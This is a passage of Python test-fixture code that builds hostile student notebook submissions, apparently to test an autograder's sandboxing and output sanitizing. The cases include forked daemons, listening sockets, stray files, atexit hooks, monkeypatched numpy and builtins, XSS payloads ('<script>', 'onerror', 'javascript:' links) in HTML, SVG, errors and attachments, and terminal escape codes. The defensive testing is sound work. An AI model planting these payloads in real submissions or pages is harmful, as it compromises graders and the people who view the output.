        open(os.path.expanduser(base) + '/00-MARK.py', 'w').write('x = 1')
    except OSError:
        pass""",
    last=True,
    stock=False,
)
_cells(
    "daemon",
    L,
    "leaves a process in a session of its own",
    """\
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(600)
    os._exit(0)""",
    last=True,
    stock=False,
)
_cells(
    "listening_socket",
    L,
    "leaves a socket that listens",
    """\
import socket
try:
    s = socket.socket()
    s.bind(('127.0.0.1', 45454))
    s.listen()
except OSError:
    pass
u = socket.socket(socket.AF_UNIX)
u.bind('\\0MARK')
u.listen()""",
    last=True,
    stock=False,
)
_cells(
    "files",
    L,
    "writes files wherever it can",
    """\
import os
for folder in ('.', '..', '/tmp', '/var/tmp', '/dev/shm', os.path.expanduser('~'), '/work', '/root', '/home'):
    try:
        open(folder + '/MARK-left', 'w').write('x')
    except OSError:
        pass""",
    last=True,
    stock=False,
)
_cells(
    "at_exit",
    L,
    "has something run when the process ends",
    """\
import atexit, os
atexit.register(lambda: open('/tmp/MARK-exit', 'w').write('x'))
import weakref""",
    last=True,
    stock=False,
)
_cells(
    "for_the_next_one",
    L,
    "changes modules for whoever comes next",
    """\
import numpy as np, math
np.max = np.maximum = math.floor = lambda *a, **k: 0
import builtins
builtins.range = None""",
    last=True,
)

# --- reaching the reader -----------------------------------------------------------------------------------------

R = "reaching the reader"
_MARKUP = "<script>alert('MARK')</script><img src=x onerror=alert('MARK')>"
_cells(
    "display_html",
    R,
    "displays HTML and JavaScript",
    f"from IPython.display import HTML, Javascript\ndisplay(HTML({_MARKUP!r}), Javascript('alert(1)'))",
    last=True,
)
_cells(
    "display_svg",
    R,
    "displays an SVG with a script and a forged picture",
    f"markup = {_MARKUP!r}\n"
    "display({'image/svg+xml': markup, 'image/png': '\">' + markup, 'text/latex': markup}, raw=True)",
    last=True,
)
_cells(
    "markup_in_error",
    R,
    "raises an error with markup in its name and text",
    f"E = type({_MARKUP!r}, (Exception,), {{}})\nraise E({_MARKUP!r})",
    last=True,
)
_cells("markup_in_answer", R, "returns markup to the check", "", **answer_of("max_pool2d", f"return {_MARKUP!r}"))
_cells(
    "markup_in_exception_of_answer",
    R,
    "raises markup in the check",
    "",
    **answer_of("max_pool2d", f"raise ValueError({_MARKUP!r})"),
)
_cells(
    "terminal_codes",
    R,
    "prints terminal codes",
    "print('\\x1b]0;MARK\\x07\\x1b[2J\\x1b]8;;javascript:alert(1)\\x1b\\\\click\\x1b]8;;\\x1b\\\\')",
    last=True,
)


@_notebook("markup_in_words", R, "writes markup and running links into the answer in words")
def _words(nb):
    for cell in nb.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == "written-pooling":
            cell.source = f"{_MARKUP}\n\n[click](javascript:alert('MARK')) $\\href{{javascript:alert(1)}}{{x}}$"
    return nb


@_notebook("attachment", R, "attaches a picture whose name and type are markup")
def _attachment(nb):
    cell = nbformat.v4.new_markdown_cell("![x](attachment:a.png)")
    cell["attachments"] = {_MARKUP: {"text/html": _MARKUP}, "a.png": {"image/png": '">' + _MARKUP}}
    nb.cells.append(cell)
    return nb


@_notebook("raw_html_cell", R, "hands in a raw cell of HTML")
def _raw(nb):
    nb.cells.append(nbformat.v4.new_raw_cell(_MARKUP, metadata={"raw_mimetype": "text/html", "format": "text/html"}))
    return nb
